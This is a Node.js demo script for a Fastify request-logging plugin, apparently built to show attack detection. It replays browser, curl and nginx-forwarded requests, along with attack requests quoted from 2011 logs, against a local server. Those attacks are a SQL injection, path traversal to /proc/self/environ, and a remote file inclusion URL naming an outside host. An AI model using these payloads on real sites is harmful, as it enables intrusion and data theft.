'use strict'

// npm run demo  (= node examples/demo.js, after `npm run build`)
//
// Starts a small Fastify app with fastify-request-info on 127.0.0.1 (a free port), sends it a mixed set
// of real HTTP requests over loopback (browsers, command-line tools, a request forwarded by nginx, and the
// 2011 attack requests quoted in seeds/000), then prints the record written for each request.

const net = require('node:net')
const { Writable } = require('node:stream')
const pino = require('pino')
const Fastify = require('fastify')
// From a clone of this repository; in your own project, require('fastify-request-info').
const requestInfo = loadPlugin()

function loadPlugin () {
  try {
    return require('../dist/index.js')
  } catch (err) {
    if (err.code !== 'MODULE_NOT_FOUND') throw err
    console.error('dist/ is missing: run `npm run build` (or `npm install`) first.')
    process.exit(1)
  }
}

// ---------------------------------------------------------------------------------------------------
// The traffic. Each request lists its headers as [name, value] pairs in the order the client puts them
// on the wire: header order is itself a fingerprint (`ho`), and it differs between these clients.
// ---------------------------------------------------------------------------------------------------

const CHROME_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'
const CHROME_131_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
const PERL_UA = 'libwww-perl/6.02'
const OLD_MOZILLA_UA = 'Mozilla/5.0 (X11; U; Linux i686; cs-CZ; rv:1.7.12) Gecko/20050929'
// The two libwww-perl 6 headers in front of Host.
const PERL_HEADERS = [['TE', 'deflate,gzip;q=0.3'], ['Connection', 'TE, close']]

// A Chrome TLS ClientHello as the nginx-ssl-fingerprint module would report it. The values are those of a
// Chrome ClientHello to www.google.com in FoxIO-LLC/ja4's tls-handshake.pcapng (BSD-3-Clause), and the
// Chrome HTTP/2 fingerprint of reference/tls-and-http2.md.
const CHROME_JA3 = '771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,27-23-65281-16-13-43-5-35-51-0-18-11-10-17513-45-21,29-23-24,0'
const CHROME_JA3_HASH = 'ad2a7e01e9f29003049caf16aff3bb3f'
const CHROME_JA4 = 't13d1516h2_8daaf6152771_e5627efa2ab1'
const CHROME_H2 = '1:65536;2:0;3:1000;4:6291456;6:262144|15663105|0|m,a,s,p'

/** @type {Array<{ label: string, path: string, headers: Array<[string, string]>, show?: boolean }>} */
const TRAFFIC = [
  {
    label: 'Chrome 120 (logged in)',
    path: '/account',
    show: true,
    headers: [
      ['Host', 'shop.example'],
      ['Connection', 'keep-alive'],
      ['sec-ch-ua', '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"'],
      ['sec-ch-ua-mobile', '?0'],
      ['sec-ch-ua-platform', '"Windows"'],
      ['Upgrade-Insecure-Requests', '1'],
      ['User-Agent', CHROME_UA],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7'],
      ['Sec-Fetch-Site', 'none'],
      ['Sec-Fetch-Mode', 'navigate'],
      ['Sec-Fetch-User', '?1'],
      ['Sec-Fetch-Dest', 'document'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Accept-Language', 'en-US,en;q=0.9'],
      ['Cookie', 'session=alice']
    ]
  },
  {
    label: 'Firefox 121',
    path: '/',
    headers: [
      ['Host', 'shop.example'],
      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Connection', 'keep-alive'],
      ['Upgrade-Insecure-Requests', '1'],
      ['Sec-Fetch-Dest', 'document'],
      ['Sec-Fetch-Mode', 'navigate'],
      ['Sec-Fetch-Site', 'none'],
      ['Sec-Fetch-User', '?1']
    ]
  },
  {
    label: 'Safari 17',
    path: '/',
    headers: [
      ['Host', 'shop.example'],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
      ['Sec-Fetch-Site', 'none'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Sec-Fetch-Mode', 'navigate'],
      ['User-Agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15'],
      ['Accept-Language', 'en-GB,en;q=0.9'],
      ['Sec-Fetch-Dest', 'document'],
      ['Connection', 'keep-alive']
    ]
  },
  {
    label: 'curl 8.5.0',
    path: '/products',
    headers: [['Host', 'shop.example'], ['User-Agent', 'curl/8.5.0'], ['Accept', '*/*']]
  },
  {
    label: 'python-requests 2.31',
    path: '/products',
    headers: [
      ['Host', 'shop.example'],
      ['User-Agent', 'python-requests/2.31.0'],
      ['Accept-Encoding', 'gzip, deflate'],
      ['Accept', '*/*'],
      ['Connection', 'keep-alive']
    ]
  },
  {
    // What examples/nginx/nginx.conf sends for a Chrome client that came over TLS + HTTP/2: nginx's own
    // headers first (Host, X-Forwarded-*, the fingerprints), then the client's headers, lowercase (HTTP/2).
    label: 'Chrome 131 via nginx',
    path: '/products',
    show: true,
    headers: [
      ['Host', 'shop.example'],
      ['X-Forwarded-For', '203.0.113.50'],
      ['X-Forwarded-Proto', 'https'],
      ['X-Forwarded-Host', 'shop.example'],
      ['X-SSL-JA3', CHROME_JA3],
      ['X-SSL-JA3-Hash', CHROME_JA3_HASH],
      ['X-SSL-JA4', CHROME_JA4],
      ['X-HTTP2-Fingerprint', CHROME_H2],
      ['sec-ch-ua', '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"'],
      ['sec-ch-ua-mobile', '?0'],
      ['sec-ch-ua-platform', '"Windows"'],
      ['upgrade-insecure-requests', '1'],
      ['user-agent', CHROME_131_UA],
      ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7'],
      ['sec-fetch-site', 'none'],
      ['sec-fetch-mode', 'navigate'],
      ['sec-fetch-user', '?1'],
      ['sec-fetch-dest', 'document'],
      ['accept-encoding', 'gzip, deflate, br, zstd'],
      ['accept-language', 'en-US,en;q=0.9'],
      ['priority', 'u=0, i']
    ]
  },

  // The attack requests of seeds/000 (access logs of 21-22 June 2011), with the paths of the log lines.
  // One change: the blog that published them turned ASCII into typography (quotes into “ ”, "- -" into
  // "– –"), and so the SQL comment `--` that ends the first query into "–"; it is sent here as `--`.
  // The headers in front of User-Agent are those the named client libraries send.
  {
    label: 'attack: SQL injection',
    path: '/contact/press_release_pop.php?id=-109+UNION+SELECT+1,2,3,4,CONCAT(0x6d7973716c6669,table_schema,0x3a,table_name,0x6d7973716c6669),6,7,8,9,1+FROM+INFORMATION_SCHEMA.TABLES+WHERE+table_name+LIKE+0x25757365726d65746125+limit+0,1--',
    show: true,
    headers: [['Accept-Encoding', 'identity'], ['Host', 'domain1.com'], ['Connection', 'close'], ['User-Agent', 'Python-urllib/2.7']]
  },
  {
    label: 'attack: /proc/self/environ',
    path: '/index.php?option=com_ckforms&view=ckforms&id=1&Itemid=81//index.php?option=com_ckforms&controller=../../../../../../../../../../../../..//proc/self/environ%0000',
    show: true,
    headers: [['Host', 'domain2.com'], ['User-Agent', OLD_MOZILLA_UA]]
  },
  {
    label: 'attack: /proc/self/environ',
    path: '//index.php?option=com_ckforms&controller=../../../../../../../../../../../../..//proc/self/environ%0000',
    headers: [['Host', 'domain2.com'], ['User-Agent', OLD_MOZILLA_UA]]
  },
  ...['/home.php', '/athletics/home.php', '/hr/home.php'].map((script) => ({
    label: 'attack: /proc/self/environ',
    path: `${script}?pgi?pgi=../../../../../../../../../../../../../../../proc/self/environ%00`,
    headers: [...PERL_HEADERS, ['Host', 'domain3.com'], ['User-Agent', PERL_UA]]
  })),
  ...['/home.php', '/athletics/home.php', '/hr/home.php'].map((script, i) => ({
    label: 'attack: remote file inclusion',
    path: `${script}?pgi?pgi=http://www.autoviacaomicaelense.pt/transportes/ckeditor/images/vero.txt?`,
    show: i === 0,
    headers: [...PERL_HEADERS, ['Host', 'domain3.com'], ['User-Agent', PERL_UA]]
  }))
]

// ---------------------------------------------------------------------------------------------------
// The records: a pino logger of the plugin's own, writing to a stream in this process.
// ---------------------------------------------------------------------------------------------------

/** The access records, parsed, in the order they were written; `other` keeps anything else pino wrote. */
const records = []
const other = []
const sink = new Writable({
  write (chunk, _encoding, callback) {
    for (const line of String(chunk).split('\n')) {
      if (line === '') continue
      const entry = JSON.parse(line)
      if (entry.msg === 'request completed' || entry.msg === 'request aborted') records.push(entry)
      else other.push(entry)
    }
    callback()
  }
})
// In production this would be pino's transport to Logstash or a file; here a stream we can read back.
// `base: undefined` leaves pid and hostname out, to keep the printout short.
const recordLogger = pino({ base: undefined, timestamp: pino.stdTimeFunctions.isoTime }, sink)

async function buildServer () {
  const app = Fastify({
    // Fastify's own logger stays off: the only lines in this demo are the plugin's records.
    logger: false,
    // The demo's "nginx" is this very process, connecting from 127.0.0.1. Trusting 127.0.0.1 therefore
    // makes every request of the demo come from a trusted proxy; only the one that carries
    // X-Forwarded-For (and the fingerprint headers) gets a different realIp. A real deployment trusts
    // the proxy's address or subnet, see examples/nginx/server.js.
    trustProxy: ['127.0.0.1/32']
  })
  await app.register(requestInfo, {
    serviceName: 'demo-shop',
    logger: recordLogger,
    fingerprintHeaders: 'nginx-ssl-fingerprint',
    // The attacks are in the query strings; without this option records keep only the path. Query
    // strings can carry tokens and personal data: turn it on knowingly.
    logQuery: true,
    // The respond layer in monitor mode, as it should start: nothing is refused, and each record says what
    // would have happened (request_info.decision): attacks would be blocked, a second /home.php rate-limited.
    respond: {
      rules: [{ id: 'attacks', action: 'block', match: { threatScore: 5 } }],
      rateLimits: [{ id: 'php-probes', max: 1, window: '1m', path: '/home.php' }]
    }
  })

  app.get('/', async () => ({ hello: 'world' }))
  app.get('/products', async () => [{ id: 1, name: 'teapot' }])
  app.get('/account', async (request, reply) => {
    // The application adds what only it knows: here the user behind a (pretend) session cookie.
    const session = /(?:^|;\s*)session=([^;]+)/.exec(request.headers.cookie ?? '')
    if (session === null) return reply.code(401).send({ error: 'log in first' })
    request.requestInfo.user = session[1]
    return { user: session[1] }
  })
  // No PHP here: the attack requests get Fastify's 404, and their records are the evidence.
  return app
}

// ---------------------------------------------------------------------------------------------------
// Sending. A raw TCP socket writes the request line and headers exactly as listed. node:http would
// append a `Connection` header to clients that send none (curl), shifting their header order, and the
// attack paths must reach the server byte for byte (`//`, `?pgi?pgi=`, `%00`).
// ---------------------------------------------------------------------------------------------------

/** Sends one GET request; resolves with the response's status code once the whole response is in. */
function send (port, path, headers) {
  return new Promise((resolve, reject) => {
    const head = `GET ${path} HTTP/1.1\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`
    const socket = net.connect(port, '127.0.0.1', () => socket.write(head, 'latin1'))
    let received = Buffer.alloc(0)
    let status
    socket.setTimeout(2000, () => socket.destroy(new Error(`no response to ${path}`)))
    socket.on('data', (chunk) => {
      received = Buffer.concat([received, chunk])
      const end = received.indexOf('\r\n\r\n')
      if (end === -1) return
      const responseHead = received.subarray(0, end).toString('latin1')
      status = Number(responseHead.split(' ')[1])
      const length = Number(/\r\ncontent-length: *(\d+)/i.exec(responseHead)?.[1] ?? 0)
      if (received.length >= end + 4 + length) socket.end()
    })
    socket.on('error', reject)
    socket.on('close', () => status === undefined ? reject(new Error(`connection closed without a response to ${path}`)) : resolve(status))
  })
}

/** Resolves once `count` records are in (the record is written in onResponse, just after the reply). */
async function recordsWritten (count) {
  const deadline = Date.now() + 2000
  while (records.length < count) {
    if (Date.now() > deadline) throw new Error(`expected ${count} records, got ${records.length}`)
    await new Promise((resolve) => setTimeout(resolve, 2))
  }
}

// ---------------------------------------------------------------------------------------------------
// Printing. Records have the default `ecs` shape: ECS fields where ECS has them, the rest under
// request_info.
// ---------------------------------------------------------------------------------------------------

const dim = (s) => process.stdout.isTTY ? `\x1b[2m${s}\x1b[0m` : s
const bold = (s) => process.stdout.isTTY ? `\x1b[1m${s}\x1b[0m` : s

/** Two or three lines per record: what was asked and answered, then who asked. */
function summary (n, label, record) {
  const ua = record.user_agent
  const ri = record.request_info
  const query = record.url.query === undefined ? '' : `?${record.url.query}`
  let target = `${record.url.path}${query}`
  if (target.length > 80) target = target.slice(0, 77) + '...'
  const uaText = ua === undefined ? '-' : ua.name === undefined ? ua.original : `${ua.name} ${ua.version ?? ''}`.trim()
  const lines = [
    `${bold(String(n).padStart(2))} ${label.padEnd(30)} ${record.http.request.method} ${target} -> ${record.http.response?.status_code ?? 'aborted'}`,
    `   realIp ${record.source?.ip ?? record.source?.address ?? '-'}  ua ${uaText}${record.user === undefined ? '' : `  user ${record.user.id}`}` +
      `  ho ${ri.ho} ${dim(`hoh ${ri.hoh}`)}`
  ]
  if (ri.decision !== undefined) {
    const d = ri.decision
    lines.push(`   decision ${d.action} by ${d.by} ${d.id}${d.monitor ? dim(' (monitor: recorded, not enforced)') : ''}`)
  }
  if (record.tls !== undefined || ri.h2 !== undefined) {
    lines.push(`   ja3 ${record.tls?.client?.ja3 ?? '-'}  ja4 ${record.tls?.client?.ja4 ?? '-'}  h2 ${ri.h2 ?? '-'} ${dim(`(${ri.fingerprint_source})`)}`)
  }
  return lines.join('\n')
}

/** JSON with two-space indentation, where any object or array that fits on one short line stays on it. */
function pretty (value, indent = '') {
  const flat = JSON.stringify(value)
  if (value === null || typeof value !== 'object' || flat.length + indent.length <= 120) return flat
  const inner = indent + '  '
  const entries = Array.isArray(value)
    ? value.map((v) => inner + pretty(v, inner))
    : Object.entries(value).filter(([, v]) => v !== undefined).map(([k, v]) => `${inner}${JSON.stringify(k)}: ${pretty(v, inner)}`)
  const [open, close] = Array.isArray(value) ? ['[', ']'] : ['{', '}']
  return `${open}\n${entries.join(',\n')}\n${indent}${close}`
}

async function main () {
  const app = await buildServer()
  await app.listen({ host: '127.0.0.1', port: 0 })
  const { port } = app.server.address()

  try {
    // One at a time, waiting for each record, so records come out in the order of TRAFFIC.
    for (let i = 0; i < TRAFFIC.length; i++) {
      await send(port, TRAFFIC[i].path, TRAFFIC[i].headers)
      await recordsWritten(i + 1)
    }
  } finally {
    await app.close()
  }
  const counters = { ...app.requestInfo.counters }

  console.log(bold(`fastify-request-info demo: ${TRAFFIC.length} requests to http://127.0.0.1:${port}, one record each`))
  console.log(dim([
    'trustProxy is 127.0.0.1/32 and every request here comes from 127.0.0.1, so every peer is a trusted proxy.',
    'Only the "via nginx" request carries X-Forwarded-For and fingerprint headers: it alone has another realIp,',
    'and ja3/ja4/h2. ho: one letter per header in wire order (table in README); hoh: its xxhash64.'
  ].join('\n')))
  console.log()

  const shown = []
  records.forEach((record, i) => {
    console.log(summary(i + 1, TRAFFIC[i].label, record))
    if (TRAFFIC[i].show === true) shown.push(i)
  })

  for (const i of shown) {
    console.log()
    console.log(bold(`-- record ${i + 1}: ${TRAFFIC[i].label} --`))
    console.log(pretty(records[i]))
  }

  console.log()
  console.log(bold('-- fastify.requestInfo.counters --'))
  console.log(pretty(counters))
  // The plugin logs its own failures (it never fails the request); there should be none.
  for (const entry of other) console.log(pretty(entry))
}

main().catch((err) => {
  console.error(err)
  process.exitCode = 1
})
